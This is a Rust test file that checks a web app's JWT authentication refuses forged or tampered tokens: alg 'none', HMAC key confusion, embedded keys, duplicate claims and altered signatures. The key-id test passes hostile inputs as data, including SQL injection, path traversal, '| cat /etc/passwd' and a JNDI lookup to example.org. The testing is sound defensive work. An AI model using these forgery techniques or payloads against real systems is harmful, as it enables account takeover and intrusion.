//! Tokens that are not what they seem.

use base64ct::{Base64UrlUnpadded, Encoding};
use finding_sweetie::domain::accounts::authenticate_member;
use hmac::{Hmac, KeyInit, Mac};
use ring::{
    rand::SystemRandom,
    signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair},
};
use serde_json::{Value, json};
use sha2::{Sha256, Sha384, Sha512};

use super::{
    super::REFRESH,
    VIEWER,
    forge::{Key, claims, message, parts, with},
    is_refused,
};
use crate::support::{Actor, Bearer, TestApp, Visitor, user_errors};

/// A key that the server has never seen.
fn foreign() -> Key {
    Key::from_seed(&[7; 32])
}

fn encoded(bytes: &[u8]) -> String {
    Base64UrlUnpadded::encode_string(bytes)
}

/// A token of the member with that header, signed with that secret.
fn hashed(algorithm: &str, header: &Value, claims: &Value, secret: &[u8]) -> String {
    macro_rules! signature {
        ($hash:ty, $message:expr) => {{
            let mut mac = Hmac::<$hash>::new_from_slice(secret).unwrap();
            mac.update($message.as_bytes());
            encoded(&mac.finalize().into_bytes())
        }};
    }
    let message = message(with(header, "alg", json!(algorithm)), claims);
    let signature = match algorithm {
        "HS256" => signature!(Sha256, message),
        "HS384" => signature!(Sha384, message),
        _ => signature!(Sha512, message),
    };
    format!("{message}.{signature}")
}

#[tokio::test]
async fn the_public_key_is_no_secret_that_signs() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    let (key, claims) = (Key::of(&app), claims(&ann));
    let set = app.get("/.well-known/jwks.json").await.bytes().await.unwrap();
    // A public key in DER and in PEM (RFC 8410).
    let der = [
        &[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00][..],
        key.public(),
    ]
    .concat();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        base64ct::Base64::encode_string(&der)
    );
    let secrets = [
        key.public().to_vec(),
        encoded(key.public()).into_bytes(),
        key.jwk().to_string().into_bytes(),
        key.id().into_bytes(),
        set.to_vec(),
        der,
        pem.trim_end().as_bytes().to_vec(),
        pem.into_bytes(),
        Vec::new(),
    ];
    for secret in secrets {
        for algorithm in ["HS256", "HS384", "HS512"] {
            let token = hashed(algorithm, &key.header(), &claims, &secret);
            is_refused(&app, &format!("{algorithm} with {secret:?}"), &token).await;
        }
    }
}

#[tokio::test]
async fn tokens_of_the_former_algorithm_are_refused_after_the_upgrade() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    let secret = app.deps.secret.key("access tokens");
    for issuer in [json!("finding-sweetie"), json!(app.url)] {
        let claims = with(&claims(&ann), "iss", issuer);
        for header in [json!({ "typ": "JWT" }), Key::of(&app).header()] {
            is_refused(&app, "HS256", &hashed("HS256", &header, &claims, &secret)).await;
        }
    }
    let fresh = app
        .run(&Visitor, REFRESH, json!({ "input": { "refreshToken": ann.refresh } }))
        .await;
    let token = fresh.data()["refreshTokens"]["tokens"]["accessToken"].as_str().unwrap();
    app.ok(&Bearer(token.to_owned()), VIEWER, json!({})).await;
}

#[tokio::test]
async fn an_algorithm_that_is_none_or_another_one_is_refused() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    let (key, claims) = (Key::of(&app), claims(&ann));
    let names = [
        "none", "None", "NONE", "nOnE", "", " ", "eddsa", "EDDSA", "EdDSA ", "Ed25519", "Ed448", "RS256", "RS384",
        "RS512", "PS256", "ES256", "ES384", "ES512", "HS256", "RSA-OAEP", "dir",
    ];
    let values = names.map(|name| json!(name)).into_iter();
    for algorithm in values.chain([json!(null), json!(0), json!(["EdDSA"])]) {
        let header = with(&key.header(), "alg", algorithm.clone());
        let signed = key.sign(&header, &claims);
        is_refused(&app, &format!("{algorithm}"), &signed).await;
        let (message, _) = signed.rsplit_once('.').unwrap();
        is_refused(&app, &format!("{algorithm}, unsigned"), &format!("{message}.")).await;
    }
}

#[tokio::test]
async fn an_elliptic_curve_of_somebody_else_is_refused() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    let random = SystemRandom::new();
    let algorithm = &ECDSA_P256_SHA256_FIXED_SIGNING;
    let document = EcdsaKeyPair::generate_pkcs8(algorithm, &random).unwrap();
    let pair = EcdsaKeyPair::from_pkcs8(algorithm, document.as_ref(), &random).unwrap();
    let header = with(&Key::of(&app).header(), "alg", json!("ES256"));
    let message = message(header, claims(&ann));
    let signature = pair.sign(&random, message.as_bytes()).unwrap();
    is_refused(&app, "ES256", &format!("{message}.{}", encoded(signature.as_ref()))).await;
}

#[tokio::test]
async fn a_key_that_the_token_brings_along_is_not_looked_at() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    let (foreign, own, claims) = (foreign(), Key::of(&app), claims(&ann));
    let named = with(&foreign.jwk(), "kid", json!(foreign.id()));
    let own_name = with(&foreign.jwk(), "kid", json!(own.id()));
    let headers = [
        foreign.header(),
        own.header(),
        with(&foreign.header(), "jwk", named),
        with(&own.header(), "jwk", own_name),
        with(&own.header(), "jku", json!(format!("{}/keys.json", app.url))),
        with(&own.header(), "x5u", json!(format!("{}/chain.pem", app.url))),
        with(&own.header(), "x5c", json!([encoded(foreign.public())])),
        with(&own.header(), "jwk", json!({ "kty": "oct", "k": "AAAA" })),
        with(&own.header(), "jwk", json!("AAAA")),
    ];
    for header in headers {
        is_refused(&app, &header.to_string(), &foreign.sign(&header, &claims)).await;
    }
}

#[tokio::test]
async fn the_name_of_a_key_finds_nothing_but_that_key() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    let (key, claims) = (Key::of(&app), claims(&ann));
    let id = key.id();
    let names = [
        json!(null),
        json!(""),
        json!(" "),
        json!(0),
        json!(true),
        json!([id]),
        json!({ "kid": id }),
        json!("../../../../../../dev/null"),
        json!("/proc/self/environ"),
        json!("file:///etc/hostname"),
        json!(format!("{}/.well-known/jwks.json", app.url)),
        json!("' OR '1'='1"),
        json!("'; DROP TABLE members; --"),
        json!("x' UNION SELECT '' --"),
        json!("| cat /etc/passwd"),
        json!("${jndi:ldap://example.org/a}"),
        json!("%s%n"),
        json!("k".repeat(4_000)),
        json!(format!("{id}{}", "k".repeat(4_000))),
        json!(format!("{id}\0")),
        json!(format!("{id} ")),
        json!(format!("{id}=")),
        json!(&id[..42]),
        json!(id.to_lowercase()),
        json!(Key::later(&app, 1).id()),
        json!(Key::later(&app, -1).id()),
        json!(Key::later(&app, 2).id()),
        json!(foreign().id()),
    ];
    for name in names {
        let header = with(&key.header(), "kid", name);
        is_refused(&app, &header.to_string(), &key.sign(&header, &claims)).await;
    }
    app.ok(&ann, VIEWER, json!({})).await;
}

#[tokio::test]
async fn a_member_that_comes_twice_is_refused() {
    let app = TestApp::new().await;
    let (ann, bob) = (app.member("ann").await, app.member("bob").await);
    let (key, claims) = (Key::of(&app), claims(&ann));
    let (header, id) = (key.header().to_string(), key.id());
    let beside = |object: &str, member: String| {
        let inner = object.strip_prefix('{').unwrap().strip_suffix('}').unwrap();
        [format!("{{{member},{inner}}}"), format!("{{{inner},{member}}}")]
    };
    for member in [
        r#""alg":"none""#.to_owned(),
        r#""alg":"EdDSA""#.to_owned(),
        r#""\u0061lg":"HS256""#.to_owned(),
        format!(r#""kid":"{id}""#),
        r#""kid":"''""#.to_owned(),
        r#""typ":"JWT""#.to_owned(),
    ] {
        for header in beside(&header, member) {
            is_refused(&app, &header, &key.sign(&header, &claims)).await;
        }
    }
    for member in [
        format!(r#""sub":"{}""#, bob.id),
        format!(r#""sub":"{}""#, ann.id),
        r#""exp":4000000000"#.to_owned(),
        r#""aud":"another""#.to_owned(),
    ] {
        for claims in beside(&claims.to_string(), member) {
            is_refused(&app, &claims, &key.sign(&header, &claims)).await;
        }
    }
}

#[tokio::test]
async fn another_type_or_an_extension_that_must_be_understood_is_refused() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    let (key, claims) = (Key::of(&app), claims(&ann));
    for (name, value) in [
        ("typ", json!(null)),
        ("typ", json!("JWT")),
        ("typ", json!("id+jwt")),
        ("typ", json!("at+jwt ")),
        ("crit", json!([])),
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["http://example.org/unknown"])),
        ("crit", json!("exp")),
    ] {
        let header = with(&key.header(), name, value);
        is_refused(&app, &header.to_string(), &key.sign(&header, &claims)).await;
    }
}

#[tokio::test]
async fn nobody_is_another_member_even_with_a_signature() {
    let app = TestApp::new().await;
    let (ann, bob) = (app.member("ann").await, app.member("bob").await);
    let (key, of_ann, of_bob) = (Key::of(&app), claims(&ann), claims(&bob));
    let unknown = "ses_00000000000000000000000000";
    for (name, value) in [
        ("sub", of_bob["sub"].clone()),
        ("sub", json!(null)),
        ("sub", of_ann["sid"].clone()),
        ("sub", json!("")),
        ("sid", of_bob["sid"].clone()),
        ("sid", json!(unknown)),
        ("sid", json!(null)),
        ("sid", of_ann["sub"].clone()),
        ("sid", json!("' OR 1=1 --")),
    ] {
        let forged = with(&of_ann, name, value);
        is_refused(&app, &forged.to_string(), &key.sign(key.header(), &forged)).await;
    }
    let admin = with(&of_ann, "role", json!("ADMIN"));
    let viewer = app.ok(&Bearer(key.sign(key.header(), &admin)), VIEWER, json!({})).await;
    assert_eq!(viewer["viewer"]["role"], "MEMBER", "only what the server stores counts");
}

#[tokio::test]
async fn a_token_that_was_changed_anywhere_is_refused() {
    let app = TestApp::new().await;
    let (ann, bob) = (app.member("ann").await, app.member("bob").await);
    let (header, claims, signature) = parts(&ann.token);
    let rewritten = |header: Value, claims: Value| format!("{}.{signature}", message(header, claims));
    let later = json!(claims["exp"].as_i64().unwrap() + 1);
    let (first, rest) = ann.token.split_once('.').unwrap();
    let (payload, _) = rest.split_once('.').unwrap();
    let last = ann.token.chars().last().unwrap();
    // Of the last letter four bits mean nothing.
    let same_bits = char::from(last as u8 + 1);
    let cut = &ann.token[..ann.token.len() - 1];
    for (what, token) in [
        (
            "another member",
            rewritten(header.clone(), with(&claims, "sub", json!(bob.id))),
        ),
        ("a later end", rewritten(header.clone(), with(&claims, "exp", later))),
        (
            "one claim more",
            rewritten(header.clone(), with(&claims, "role", json!("ADMIN"))),
        ),
        (
            "another header",
            rewritten(with(&header, "cty", json!("x")), claims.clone()),
        ),
        (
            "the signature of another token",
            format!("{first}.{payload}.{}", parts(&bob.token).2),
        ),
        ("cut off", ann.token[..ann.token.len() - 2].to_owned()),
        ("another form of the same signature", format!("{cut}{same_bits}")),
        ("padded", format!("{}==", ann.token)),
        ("one part more", format!("{}.{signature}", ann.token)),
        ("one part less", format!("{first}.{payload}")),
        ("an empty payload", format!("{first}..{signature}")),
        (
            "five parts",
            format!("{first}.{payload}.{payload}.{payload}.{signature}"),
        ),
        ("dots", "..".to_owned()),
        ("no token at all", "null".to_owned()),
    ] {
        is_refused(&app, what, &token).await;
    }
}

#[tokio::test]
async fn no_letter_of_a_token_can_be_another_one() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    assert!(authenticate_member(&app.deps, &ann.token).await.is_ok());
    for (place, letter) in ann.token.char_indices() {
        for other in ["A", "z", "_", ".", "=", "+", "\n", "", "AA"] {
            let mut changed = ann.token.clone();
            changed.replace_range(place..=place, other);
            let is_refused = authenticate_member(&app.deps, &changed).await.is_err();
            assert!(
                is_refused || changed == ann.token,
                "{letter} at {place} became {other:?}"
            );
        }
    }
}

#[tokio::test]
async fn no_credential_passes_for_one_of_another_kind() {
    let app = TestApp::new().await;
    let ann = app.member("ann").await;
    for (what, token) in [
        ("a refresh token", ann.refresh.clone()),
        (
            "a refresh token with another prefix",
            ann.refresh.replacen("rt_", "sk_", 1),
        ),
        ("a key", "sk_0000000000000000".to_owned()),
        ("a token as a key", format!("sk_{}", ann.token)),
        ("a token as a refresh token", format!("rt_{}", ann.token)),
        ("a session", claims(&ann)["sid"].as_str().unwrap().to_owned()),
        ("a member", ann.id.clone()),
    ] {
        is_refused(&app, what, &token).await;
    }
    let before = app.footprint().await;
    for token in [&ann.token, &format!("rt_{}", ann.token), &ann.id] {
        let refused = app
            .run(&Visitor, REFRESH, json!({ "input": { "refreshToken": token } }))
            .await;
        assert_eq!(user_errors(&refused), ["input.refreshToken EXPIRED"], "{token}");
    }
    assert_eq!(app.footprint().await, before);
    still_works(&app, &ann).await;
}

async fn still_works(app: &TestApp, ann: &Actor) {
    app.ok(ann, VIEWER, json!({})).await;
    let fresh = app
        .run(&Visitor, REFRESH, json!({ "input": { "refreshToken": ann.refresh } }))
        .await;
    assert_eq!(user_errors(&fresh), Vec::<String>::new());
}
